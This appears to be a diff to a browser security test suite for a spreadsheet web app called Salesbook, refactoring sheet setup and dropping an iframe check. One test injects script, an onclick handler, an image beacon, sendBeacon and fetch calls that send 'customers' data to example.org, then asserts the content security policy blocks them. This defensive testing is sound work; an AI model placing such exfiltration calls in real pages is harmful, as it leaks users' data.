@@ -40,6 +40,12 @@ browserSuite("security", (executablePath) => {
   const openFile = (name: string, content: string): Promise<void> =>
     page.locator("[data-role=open-file]").setInputFiles({ name, mimeType: "text/csv", buffer: Buffer.from(content, "utf8") });
 
+  async function addSheet(): Promise<void> {
+    await page.getByRole("button", { name: "Add an empty sheet" }).click();
+    await page.getByRole("tab", { name: "Sheet 1", selected: true }).waitFor();
+    await untilShown(cellAt(page, 0, 0), "");
+  }
+
   /** What must hold after everything that a user does. */
   function expectQuiet(): void {
     expect({ refused: seen.refused, errors: seen.errors, asked: watched.asked }).toEqual({ refused: [], errors: [], asked: [] });
@@ -53,16 +59,16 @@ browserSuite("security", (executablePath) => {
 
   test("a table, a file, a formula and a download ask for files of Salesbook's own and nothing else", async () => {
     await page.goto(`${site.address}/workbench.html`);
-    await page.locator("[data-choice='6-8+6-9']").first().click();
+    await page.locator("[data-choice='6-9']").first().click();
     await page.getByRole("radio", { name: /Sample data/ }).check();
     const before = seen.requests.length;
-    await page.locator("form + * button[type=submit], button[type=submit]").last().click();
+    await page.getByRole("button", { name: "Insert sheets" }).click();
     await page.locator(".wb-mark-A").first().waitFor();
     await openFile("secret-customers.csv", "Customer,Average monthly sales\nSecret & Co,12345\nB,50\n");
     await page.getByText("secret-customers.csv opened").waitFor();
-    await page.getByRole("button", { name: "Add an empty sheet" }).click();
-    await typeInto(page, 0, 0, "=CREDITLIMIT_NET(100,40,3)");
-    await untilShown(cellAt(page, 0, 0), "20");
+    await addSheet();
+    await typeInto(page, 1, 1, "=CREDITLIMIT_NET(100,40,3)");
+    await untilShown(cellAt(page, 1, 1), "20");
     const [download] = await Promise.all([page.waitForEvent("download"), page.keyboard.press("Control+s")]);
     expect((await readXlsx(new Uint8Array(readFileSync(await download.path())))).length).toBeGreaterThan(2);
     // Time for anything that would be sent a little later.
@@ -92,13 +98,13 @@ browserSuite("security", (executablePath) => {
 
     await openFile(`${NASTIER}.csv`, `${quoted(NASTY)},b\n1,${quoted(NASTIER)}\n`);
     await page.locator(".rgCell").filter({ hasText: NASTIER }).first().waitFor();
-    await page.getByRole("button", { name: "Add an empty sheet" }).click();
-    await typeInto(page, 0, 0, `=${quoted(NASTY)}&"!"`);
-    await cellAt(page, 0, 0)
+    await addSheet();
+    await typeInto(page, 1, 1, `=${quoted(NASTY)}&"!"`);
+    await cellAt(page, 1, 1)
       .filter({ hasText: `${NASTY}!` })
       .waitFor();
-    await typeInto(page, 1, 0, NASTIER);
-    await cellAt(page, 1, 0).filter({ hasText: NASTIER }).waitFor();
+    await typeInto(page, 2, 1, NASTIER);
+    await cellAt(page, 2, 1).filter({ hasText: NASTIER }).waitFor();
     // What cannot be read is told in its own words, too.
     await openFile("amounts.csv", `Customer,Average monthly sales\nA,${quoted(NASTY)}\n`);
     await page.getByText(NASTY).last().waitFor();
@@ -133,9 +139,7 @@ browserSuite("security", (executablePath) => {
       button.setAttribute("onclick", "window.harmed = 1");
       const image = document.createElement("img");
       image.src = "https://example.org/collect?customers=all";
-      const frame = document.createElement("iframe");
-      frame.src = "https://example.org/";
-      document.body.append(script, button, image, frame);
+      document.body.append(script, button, image);
       button.click();
       navigator.sendBeacon("https://example.org/collect", "customers");
       await fetch("https://example.org/collect", { method: "POST", body: "customers" }).catch(() => undefined);
@@ -144,7 +148,6 @@ browserSuite("security", (executablePath) => {
     expect(await page.evaluate(() => "harmed" in window)).toBe(false);
     expect([...new Set(seen.refused.map((what) => what.split(" ")[0]))].sort()).toEqual([
       "connect-src",
-      "frame-src",
       "img-src",
       "script-src-attr",
       "script-src-elem",
